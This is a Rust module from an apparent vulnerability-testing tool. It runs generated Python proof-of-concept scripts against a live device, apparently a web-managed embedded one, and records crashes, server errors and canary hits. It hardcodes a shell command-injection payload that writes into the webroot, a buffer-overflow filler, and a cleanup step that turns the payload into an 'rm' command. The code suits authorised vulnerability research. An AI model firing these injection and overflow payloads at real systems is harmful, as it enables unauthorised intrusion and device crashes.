pub mod outcome;
pub mod progress;
pub mod success;

pub use outcome::Outcome;
pub use progress::Checkpoint;
pub use success::{derive_prefix, SuccessSet};

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};

use crate::errors::SondoError;
use crate::models::{EngineReport, VerifyReport};
use crate::utils::truncate_output;

const CANARY_DROP_PATTERN: &str = ";echo hacker >";
const CANARY_CLEANUP_REPLACEMENT: &str = ";rm ";

fn default_interpreter() -> String {
    "python3".to_string()
}

fn default_max_attempts() -> u32 {
    7
}

fn default_verify_attempts() -> u32 {
    4999
}

fn default_verify_timeout_secs() -> u64 {
    500
}

fn default_success_pause_secs() -> u64 {
    5
}

fn default_inconclusive_pause_secs() -> u64 {
    5
}

fn default_benign_pause_secs() -> u64 {
    1
}

fn default_canary_marker() -> String {
    "123.txt".to_string()
}

fn default_canary_url() -> String {
    "http://192.168.153.2/123.txt".to_string()
}

fn default_canary_token() -> String {
    "hacker".to_string()
}

fn default_overflow_length() -> usize {
    2000
}

fn default_cmdi_payload() -> String {
    ";echo hacker > /webroot/123.txt".to_string()
}

/// Knobs for the proof-of-concept runner. The pauses exist to let a physical
/// device settle between requests, not for correctness.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct EngineSettings {
    #[serde(default = "default_interpreter")]
    pub interpreter: String,
    #[serde(default = "default_max_attempts")]
    pub max_attempts: u32,
    /// Per-attempt process timeout; unbounded when absent.
    #[serde(default)]
    pub attempt_timeout_secs: Option<u64>,
    #[serde(default = "default_verify_attempts")]
    pub verify_attempts: u32,
    #[serde(default = "default_verify_timeout_secs")]
    pub verify_timeout_secs: u64,
    #[serde(default = "default_success_pause_secs")]
    pub success_pause_secs: u64,
    #[serde(default = "default_inconclusive_pause_secs")]
    pub inconclusive_pause_secs: u64,
    #[serde(default = "default_benign_pause_secs")]
    pub benign_pause_secs: u64,
    /// Payload substring that means the canary side channel applies.
    #[serde(default = "default_canary_marker")]
    pub canary_marker: String,
    #[serde(default = "default_canary_url")]
    pub canary_url: String,
    /// Expected canary response body when the injected write landed.
    #[serde(default = "default_canary_token")]
    pub canary_token: String,
    #[serde(default = "default_overflow_length")]
    pub overflow_length: usize,
    #[serde(default = "default_cmdi_payload")]
    pub cmdi_payload: String,
}

impl Default for EngineSettings {
    fn default() -> Self {
        Self {
            interpreter: default_interpreter(),
            max_attempts: default_max_attempts(),
            attempt_timeout_secs: None,
            verify_attempts: default_verify_attempts(),
            verify_timeout_secs: default_verify_timeout_secs(),
            success_pause_secs: default_success_pause_secs(),
            inconclusive_pause_secs: default_inconclusive_pause_secs(),
            benign_pause_secs: default_benign_pause_secs(),
            canary_marker: default_canary_marker(),
            canary_url: default_canary_url(),
            canary_token: default_canary_token(),
            overflow_length: default_overflow_length(),
            cmdi_payload: default_cmdi_payload(),
        }
    }
}

/// Runs generated artifacts against the live device, in sorted order, with
/// checkpointed resume, per-prefix dedup and a curated success set.
pub struct ExecutionEngine {
    settings: EngineSettings,
    output_dir: PathBuf,
    checkpoint: Checkpoint,
    successes: SuccessSet,
    client: reqwest::Client,
}

impl ExecutionEngine {
    /// `base_dir` is the vendor/product directory holding `output/`,
    /// `success/` and `progress.txt`.
    pub fn new(base_dir: &Path, settings: EngineSettings) -> Result<Self, SondoError> {
        let checkpoint = Checkpoint::open(base_dir.join("progress.txt"));
        let successes = SuccessSet::open(base_dir.join("success"))?;
        let client = reqwest::Client::builder()
            .timeout(Duration::from_secs(30))
            .build()
            .map_err(|e| SondoError::Network(format!("Failed to build HTTP client: {}", e)))?;
        Ok(Self {
            settings,
            output_dir: base_dir.join("output"),
            checkpoint,
            successes,
            client,
        })
    }

    pub fn success_dir(&self) -> &Path {
        self.successes.dir()
    }

    /// Execute every artifact under `output/` from the checkpoint onwards.
    pub async fn run(&mut self, reset_successes: bool) -> Result<EngineReport, SondoError> {
        if reset_successes {
            self.successes.reset()?;
        }

        let artifacts = self.discover_artifacts()?;
        let start = self.checkpoint.position();
        info!(start, total = artifacts.len(), "starting proof-of-concept run");

        let mut report = EngineReport::default();
        for (i, path) in artifacts.iter().enumerate().skip(start) {
            let stem = path
                .file_stem()
                .map(|s| s.to_string_lossy().into_owned())
                .unwrap_or_default();
            let prefix = derive_prefix(&stem);

            if self.successes.contains(&prefix) {
                info!(artifact = %path.display(), prefix, "skipping, same prefix already succeeded");
                report.skipped_same_prefix += 1;
                self.checkpoint.save(i + 1)?;
                continue;
            }

            report.attempted += 1;
            if self.run_artifact(path, &stem, &prefix).await? {
                report.successes += 1;
            }
            self.checkpoint.save(i + 1)?;
        }

        info!(
            attempted = report.attempted,
            skipped = report.skipped_same_prefix,
            successes = report.successes,
            "proof-of-concept run finished"
        );
        Ok(report)
    }

    /// Re-execute everything in the success set until each artifact
    /// reproduces a crash or server error once, within the attempt budget.
    pub async fn verify_successes(&self) -> Result<VerifyReport, SondoError> {
        let artifacts = self.successes.artifacts()?;
        if artifacts.is_empty() {
            info!("success directory is empty, nothing to verify");
            return Ok(VerifyReport::default());
        }

        info!(count = artifacts.len(), "verifying recorded successes");
        let mut report = VerifyReport {
            total: artifacts.len(),
            verified: 0,
        };

        'artifacts: for path in &artifacts {
            info!("verifying {}", path.display());
            for _ in 0..self.settings.verify_attempts {
                let Some(output) = self
                    .execute_script(path, Some(self.settings.verify_timeout_secs))
                    .await?
                else {
                    warn!("verification run timed out, abandoning this artifact");
                    continue 'artifacts;
                };
                if Outcome::classify(&output).is_success() {
                    info!("verified, outcome reproduced");
                    report.verified += 1;
                    self.pause(self.settings.success_pause_secs).await;
                    continue 'artifacts;
                }
            }
            warn!("exhausted verification attempts for {}", path.display());
        }

        info!(verified = report.verified, total = report.total, "verification finished");
        if report.verified == report.total {
            info!("every recorded success reproduced");
        }
        Ok(report)
    }

    fn discover_artifacts(&self) -> Result<Vec<PathBuf>, SondoError> {
        let pattern = format!("{}/**/*.py", self.output_dir.display());
        let mut paths: Vec<PathBuf> = glob::glob(&pattern)
            .map_err(|e| SondoError::Execution(format!("bad artifact glob {}: {}", pattern, e)))?
            .filter_map(Result::ok)
            .collect();
        paths.sort();
        Ok(paths)
    }

    async fn run_artifact(&mut self, path: &Path, stem: &str, prefix: &str) -> Result<bool, SondoError> {
        info!("executing {}", path.display());
        let original = fs::read_to_string(path)?;
        let mutated = self.substitute_placeholders(&original, stem);
        // persist the resolved script so the success copy carries real values
        if let Err(e) = fs::write(path, &mutated) {
            warn!("cannot write resolved script back to {}: {}", path.display(), e);
        }

        let scratch = tempfile::Builder::new()
            .prefix("sondo-poc-")
            .suffix(".py")
            .tempfile()?;
        fs::write(scratch.path(), &mutated)?;

        for attempt in 1..=self.settings.max_attempts {
            debug!(attempt, max = self.settings.max_attempts, "attempt");
            let outcome = match self
                .execute_script(scratch.path(), self.settings.attempt_timeout_secs)
                .await?
            {
                Some(output) => {
                    debug!("response: {}", truncate_output(&output));
                    Outcome::classify(&output)
                }
                None => Outcome::Timeout,
            };

            match outcome {
                Outcome::Crash => {
                    warn!("exception marker caught, device likely crashed");
                    self.record_success(path, prefix)?;
                    self.pause(self.settings.success_pause_secs).await;
                    return Ok(true);
                }
                Outcome::ServerError => {
                    info!("server error response, recording success");
                    self.record_success(path, prefix)?;
                    return Ok(true);
                }
                Outcome::Timeout => {
                    warn!("timeout, device unresponsive");
                    self.pause(self.settings.inconclusive_pause_secs).await;
                }
                Outcome::Benign => {
                    self.pause(self.settings.benign_pause_secs).await;
                }
                Outcome::Unclassified => {}
            }

            if mutated.contains(&self.settings.canary_marker) && self.canary_triggered().await {
                info!("canary file served, injected write landed");
                self.record_success(path, prefix)?;
                self.clean_canary_traces(&mutated).await;
                return Ok(true);
            }
        }
        Ok(false)
    }

    /// Run a script and capture its combined trimmed output. `None` means the
    /// process-level timeout elapsed.
    async fn execute_script(
        &self,
        script: &Path,
        timeout_secs: Option<u64>,
    ) -> Result<Option<String>, SondoError> {
        let mut command = tokio::process::Command::new(&self.settings.interpreter);
        command.arg(script).kill_on_drop(true);

        let result = match timeout_secs {
            Some(secs) => {
                match tokio::time::timeout(Duration::from_secs(secs), command.output()).await {
                    Ok(result) => result,
                    Err(_) => return Ok(None),
                }
            }
            None => command.output().await,
        };
        let output = result.map_err(|e| {
            SondoError::Execution(format!(
                "cannot run {} {}: {}",
                self.settings.interpreter,
                script.display(),
                e
            ))
        })?;

        let stdout = String::from_utf8_lossy(&output.stdout);
        let stderr = String::from_utf8_lossy(&output.stderr);
        Ok(Some(format!("{}{}", stdout.trim(), stderr.trim())))
    }

    fn substitute_placeholders(&self, code: &str, stem: &str) -> String {
        let mut mutated = code.to_string();
        if mutated.contains("{URI}") {
            let segment = stem.split('_').next().unwrap_or("");
            let uri = if segment.is_empty() {
                "/".to_string()
            } else {
                format!("/{}", segment)
            };
            mutated = mutated.replace("{URI}", &uri);
        }
        mutated = mutated.replace("{overflow}", &"A".repeat(self.settings.overflow_length));
        mutated.replace("{cmdi}", &self.settings.cmdi_payload)
    }

    fn record_success(&mut self, path: &Path, prefix: &str) -> Result<(), SondoError> {
        self.successes.register(path, prefix)?;
        ring_bell();
        Ok(())
    }

    async fn canary_triggered(&self) -> bool {
        debug!("probing canary url {}", self.settings.canary_url);
        let response = match self.client.get(&self.settings.canary_url).send().await {
            Ok(response) => response,
            Err(e) => {
                debug!("canary probe failed: {}", e);
                return false;
            }
        };
        match response.text().await {
            Ok(body) => {
                let body = body.trim();
                if body == self.settings.canary_token {
                    true
                } else {
                    if body.is_empty() {
                        debug!("canary response body empty");
                    }
                    false
                }
            }
            Err(e) => {
                debug!("canary body read failed: {}", e);
                false
            }
        }
    }

    /// Best effort: re-run the script with the injected write turned into a
    /// removal, then probe once more to confirm the canary file is gone.
    async fn clean_canary_traces(&self, mutated: &str) {
        let cleaned = mutated.replace(CANARY_DROP_PATTERN, CANARY_CLEANUP_REPLACEMENT);
        let scratch = match tempfile::Builder::new()
            .prefix("sondo-clean-")
            .suffix(".py")
            .tempfile()
        {
            Ok(scratch) => scratch,
            Err(e) => {
                warn!("cannot stage cleanup script: {}", e);
                return;
            }
        };
        if let Err(e) = fs::write(scratch.path(), &cleaned) {
            warn!("cannot stage cleanup script: {}", e);
            return;
        }
        if let Err(e) = self.execute_script(scratch.path(), None).await {
            warn!("cleanup execution failed: {}", e);
        }
        if self.canary_triggered().await {
            warn!("canary file still present after cleanup");
        }
    }

    async fn pause(&self, secs: u64) {
        if secs > 0 {
            tokio::time::sleep(Duration::from_secs(secs)).await;
        }
    }
}

fn ring_bell() {
    use std::io::Write;
    let mut stdout = std::io::stdout();
    let _ = stdout.write_all(b"\x07");
    let _ = stdout.flush();
}
